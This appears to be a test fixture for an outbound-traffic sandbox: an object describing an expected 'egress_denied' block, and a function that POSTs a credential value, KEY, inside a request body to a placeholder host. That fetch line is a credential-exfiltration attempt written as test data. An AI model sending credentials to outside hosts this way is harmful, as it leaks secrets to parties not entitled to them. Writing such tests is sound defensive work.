export const attempt = {
  tries: "to send an exposed value to another host in a body",
  blockedBecause: "a short body is searched completely before it is sent",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached`, { method: "POST", body: `a ${credentials.KEY} b` });
  return "got through";
};
